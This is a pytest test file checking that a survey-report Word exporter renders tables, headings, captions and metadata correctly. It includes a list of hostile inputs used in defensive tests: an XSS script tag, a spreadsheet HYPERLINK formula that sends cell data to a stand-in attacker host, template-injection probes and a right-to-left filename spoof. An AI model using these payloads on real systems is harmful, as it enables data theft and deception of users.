"""A Word file is read back with python-docx and turned to paper by LibreOffice."""

import io
import os
import re
import shutil
import subprocess
import time
import zipfile
from datetime import UTC, datetime
from itertools import pairwise

import pytest

from sipukat import export
from sipukat.export.base import shown
from sipukat.report.document import (
    Column,
    Document,
    Figure,
    Heading,
    Headline,
    Note,
    Paragraph,
    Provenance,
    Table,
)
from sipukat.report.processing import footer_table

docx = pytest.importorskip("docx", reason="python-docx is not installed")
NUL, OVERRIDE, RTL = chr(0), chr(0x202E), chr(0x200F)
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
WP = "{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}"


def written(document):
    return export.get("docx")(document)


def opened(data):
    return docx.Document(io.BytesIO(data))


def tables_of(document):
    for block in document.blocks:
        if block.kind in {"table", "processing"}:
            yield footer_table(block, lang=document.lang) if block.kind == "processing" else block


def figures_of(document):
    for block in document.blocks:
        if block.kind == "poster" and block.gauge is not None:
            yield block.gauge
        elif block.kind == "figure":
            yield block


def of(*blocks, title="Judul", subtitle="Anak judul", lang="id"):
    made = Provenance(
        generated=datetime(2026, 8, 17, 9, tzinfo=UTC),
        items=[{"key": "n", "label": "Responden", "value": "31"}],
    )
    return Document(title=title, subtitle=subtitle, lang=lang, blocks=blocks, provenance=made)


def table_of(rows, **more):
    columns = (Column(key="nama", label="Nama"), Column(key="n", label="n", kind="integer"))
    return Table(id="t", name="T", caption="Isi", columns=columns, rows=rows, **more)


@pytest.fixture(scope="module")
def papers(every_document, tmp_path_factory):
    """Documents by name, each with the text that LibreOffice prints of it."""
    office = os.environ.get("SIPUKAT_SOFFICE") or shutil.which("soffice")
    if office is None or shutil.which("pdftotext") is None:
        pytest.skip("LibreOffice and poppler are needed to print, and are not here")
    folder = tmp_path_factory.mktemp("paper")
    documents = {name: every_document[name] for name in ("hasil", "score", "lampiran")}
    documents["long words"] = of(Paragraph(text="x" * 10_000), table_of([("y" * 10_000, 1)]))
    for place, document in enumerate(documents.values()):
        (folder / f"{place}.docx").write_bytes(written(document))
    profile = f"-env:UserInstallation=file://{folder}/profile"
    done = subprocess.run(
        [office, profile, "--headless", "--convert-to", "pdf", "--outdir", folder, *folder.glob("*.docx")],
        capture_output=True, check=False, timeout=120,
    )  # fmt: skip
    if not list(folder.glob("*.pdf")):
        assert b"could not be loaded" in done.stderr, done.stderr
        pytest.skip("this LibreOffice has no Writer, so that it reads no Word file")
    return {
        name: (document, _text_of(folder / f"{place}.pdf"))
        for place, (name, document) in enumerate(documents.items())
    }


def _text_of(path):
    done = subprocess.run(["pdftotext", "-layout", path, "-"], capture_output=True, check=True)  # noqa: S607
    return done.stdout.decode()


def test_every_cell_of_every_kind_of_document_is_what_the_other_formats_print(every_document):
    for name, document in every_document.items():
        read = opened(written(document)).tables
        expected = list(tables_of(document))
        assert len(read) == len(expected), name
        for table, block in zip(read, expected, strict=True):
            groups = set(block.group_rows)
            assert len(table.rows) == len(block.rows) + 1
            for place, (row, cells) in enumerate(zip(table.rows[1:], block.rows, strict=True)):
                printed = [shown(c, col, document.lang) for c, col in zip(cells, block.columns, strict=True)]
                texts = [cell.text for cell in row.cells]
                if place in groups:
                    filled = next((text for text in printed if text), "")
                    assert set(texts) - {""} == {filled} - {""}
                else:
                    assert texts == printed


def test_headings_captions_and_pictures_are_in_the_order_of_the_document(every_document):
    for name, document in every_document.items():
        file = opened(written(document))
        paragraphs = file.paragraphs
        heads = [(p.style.name, p.text) for p in paragraphs if p.style.name.startswith("Heading")]
        expected = [("Heading 1", document.title)]
        expected += [(f"Heading {b.level}", b.text) for b in document.blocks if b.kind == "heading"]
        assert heads[: len(expected)] == expected, name
        levels = [int(style[-1]) for style, _ in heads]
        assert all(after <= before + 1 for before, after in pairwise(levels))
        captions = [p.text for p in paragraphs if p.style.name == "Caption"]
        words = ("Tabel", "Gambar") if document.lang == "id" else ("Table", "Figure")
        for word, blocks in zip(words, (tables_of(document), figures_of(document)), strict=True):
            told = [text for text in captions if text.startswith(f"{word} ")]
            assert told == [f"{word} {n}. {b.caption}" for n, b in enumerate(blocks, start=1)]


def test_every_picture_says_in_words_what_it_shows(document):
    body = opened(written(document)).element.body
    told = [each.get("descr") for each in body.iter(f"{WP}docPr")]
    assert told == [figure.alt for figure in figures_of(document)]
    assert all(told)
    ids = [each.get("id") for each in body.iter(f"{WP}docPr")]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("lang", ["id", "en"])
def test_it_says_its_language_title_and_time_and_no_author(document_of, made, lang):
    file = opened(written(document_of({"Dinas A": 31, "Dinas B": 44}, lang=lang)))
    core = file.core_properties
    assert (core.author, core.last_modified_by, core.comments) == ("", "", "")
    assert core.created == core.modified == made
    assert core.title
    assert core.language == {"id": "id-ID", "en": "en-GB"}[lang]
    spoken = file.styles.element.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang")
    assert spoken.get(f"{W}val") == core.language
    foot = file.sections[0].footer.paragraphs[0].text
    assert re.search({"id": r"Halaman 1 dari 1$", "en": r"Page 1 of 1$"}[lang], foot)


def test_heads_of_tables_come_again_and_rows_stay_whole():
    rows = [("Kelompok", None), ("A", 1234), ("B", 2), ("Jumlah", 1236)]
    table = opened(written(of(table_of(rows, group_rows=(0,), total_rows=1)))).tables[0]
    first = table.rows[0]._tr
    assert first.trPr.find(f"{W}tblHeader") is not None
    assert all(row._tr.trPr.find(f"{W}cantSplit") is not None for row in table.rows)
    assert len(table.rows[1]._tr.tc_lst) == 1
    last = table.rows[4].cells
    assert all(run.bold for cell in last for run in cell.paragraphs[0].runs)
    assert last[1].paragraphs[0].alignment == docx.enum.text.WD_ALIGN_PARAGRAPH.RIGHT
    assert [cell.text for cell in table.rows[2].cells] == ["A", "1.234"]


def test_a_row_longer_than_a_page_may_be_broken():
    rows = [("x" * 10_000, 1), ("baris\n" * 200, 2), ("pendek", 3)]
    split = [row._tr.find(f"{W}trPr") is None for row in opened(written(of(table_of(rows)))).tables[0].rows]
    assert split == [False, True, True, False]


def test_columns_fill_the_page_and_the_longest_text_has_the_most_room():
    rows = [("Dinas Kependudukan dan Pencatatan Sipil Kota Contoh " * 4, 1), ("B", 2)]
    file = opened(written(of(table_of(rows))))
    page = file.sections[0]
    room = page.page_width - page.left_margin - page.right_margin
    widths = [column.width for column in file.tables[0].columns]
    assert sum(widths) == pytest.approx(room, abs=1000)
    assert widths[0] > 5 * widths[1]


def test_notes_say_their_severity_in_words_and_the_other_language_is_marked():
    notes = [
        Note(severity=s, text="Perhatian.", beside="Mind.", code="IKM601")
        for s in ("error", "warning", "info")
    ]
    paragraphs = [p for p in opened(written(of(*notes))).paragraphs if "IKM601" in p.text]
    assert [p.text for p in paragraphs] == [
        f"{word} IKM601. Perhatian.\nMind." for word in ("Kesalahan", "Peringatan", "Catatan")
    ]
    assert paragraphs[0].runs[-1]._r.rPr.find(f"{W}lang").get(f"{W}val") == "en-GB"
    assert len({p.style.name for p in paragraphs}) == 3


def test_the_headline_is_a_large_line_with_its_facts():
    facts = [
        {"label": "IKM", "value": "90,64"},
        {"label": "Mutu", "value": "A"},
        {"label": "n", "value": "31"},
    ]
    block = Headline(text="IKM 90,64 · mutu A", detail="Antara 88 dan 92.", facts=facts)
    paragraphs = opened(written(of(block))).paragraphs[2:6]
    texts = [p.text.replace("\u00a0", " ") for p in paragraphs]
    assert texts[:3] == ["IKM\n90,64", "IKM 90,64 · mutu A", "Antara 88 dan 92."]
    assert re.fullmatch(r"Mutu: A\s+n: 31", texts[3])
    assert paragraphs[0].style.font.size.pt >= 30


def test_long_documents_have_a_table_of_contents_that_leads_to_its_headings():
    heads = [Heading(level=2, text=f"BAB {n}") for n in range(1, 8)]
    file = opened(written(of(*heads, Heading(level=3, text="Rinci"))))
    body = file.element.body
    (block,) = body.findall(f"{W}sdt")
    links = list(block.iter(f"{W}hyperlink"))
    marks = {mark.get(f"{W}name"): mark.getparent() for mark in body.iter(f"{W}bookmarkStart")}
    for link in links:
        target = marks[link.get(f"{W}anchor")]
        assert "".join(t.text for t in link.iter(f"{W}t")) == "".join(t.text for t in target.iter(f"{W}t"))
    assert len(links) == 9  # the seven, the one below, and where the numbers come from
    (code,) = [each.text for each in block.iter(f"{W}instrText")]
    assert code.split()[0] == "TOC"
    kinds = [mark.get(f"{W}fldCharType") for mark in block.iter(f"{W}fldChar")]
    assert kinds == ["begin", "separate", "end"]
    assert file.settings.element.find(f"{W}updateFields") is None
    assert opened(written(of(*heads[:3]))).element.body.find(f"{W}sdt") is None


def test_items_of_a_list_are_paragraphs_and_the_text_is_the_same():
    text = "1. KTP-el\n2. Kartu Keluarga"
    file = opened(written(of(Paragraph(text=text), Paragraph(text="Jl. A\nKota B", align="right"))))
    body = [p for p in file.paragraphs if p.style.name == "Normal"]
    assert [p.text for p in body] == ["1. KTP-el", "2. Kartu Keluarga", "Jl. A\nKota B"]
    assert body[0].paragraph_format.first_line_indent < 0 < body[2].paragraph_format.left_indent


HOSTILE = [
    "<script>alert(1)</script>", '=HYPERLINK("http://jahat.example/"&A1,"klik")', "{{7*7}} ${7*7} #import",
    "{{ isi }}", f"Dinas {RTL}A{OVERRIDE}txt.exe", f"Dinas {NUL}B", "Dinas 😀 é", "x" * 10_000,
    "]]></w:t><w:p>", "&amp; &#0; \ufffe", "\x0b\x1f",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_and_readable_wherever_it_stands(text):
    figure = Figure(
        id=text, chart="unsur_bars", caption=text, alt=text, axis=("25", "100"),
        data=[{"label": text, "value": "90.64", "low": None, "high": None}],
    )  # fmt: skip
    table = table_of([(text, 1), (text, text)], group_rows=(0,), note=text)
    blocks = [
        Heading(level=2, text=text),
        Paragraph(text=text),
        table,
        figure,
        Headline(text=text, detail=text),
    ]
    document = of(*blocks, Note(severity="info", text=text, beside=text), title=text, subtitle=text)
    data = written(document)
    file, said = opened(data), document.title
    assert file.paragraphs[0].text == said
    assert file.tables[0].rows[2].cells[0].text == said
    assert not list(file.element.body.iter(f"{W}hyperlink"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if b'TargetMode="External"' in archive.read(name)]


def test_a_text_that_was_not_cleaned_does_no_harm():
    block = Paragraph.model_construct(kind="paragraph", text="a\x00\x0bb\ud800", align="left")
    document = of().model_copy(update={"blocks": (block,)})
    assert "ab\ufffd" in [p.text for p in opened(written(document)).paragraphs]


def test_the_same_document_gives_the_same_bytes(document):
    first = written(document)
    time.sleep(2.1)  # a zip counts in steps of two seconds
    assert written(document) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.namelist()[0] == "[Content_Types].xml"


@pytest.mark.parametrize("which", ["hasil", "score", "lampiran"])
def test_libreoffice_prints_every_number(papers, which):
    document, printed = papers[which]
    text = re.sub(r"\s+", " ", printed)
    for table in tables_of(document):
        for row in table.rows:
            for cell, column in zip(row, table.columns, strict=True):
                if column.kind != "text" and not isinstance(cell, str):
                    assert shown(cell, column, document.lang) in text
    words = "Page" if document.lang == "en" else "Halaman"
    assert re.search(rf"{words} 2 (?:of|dari) \d", text)


def test_libreoffice_wraps_a_word_of_ten_thousand_letters(papers):
    _, text = papers["long words"]
    assert (text.count("x"), text.count("y")) >= (10_000, 10_000)
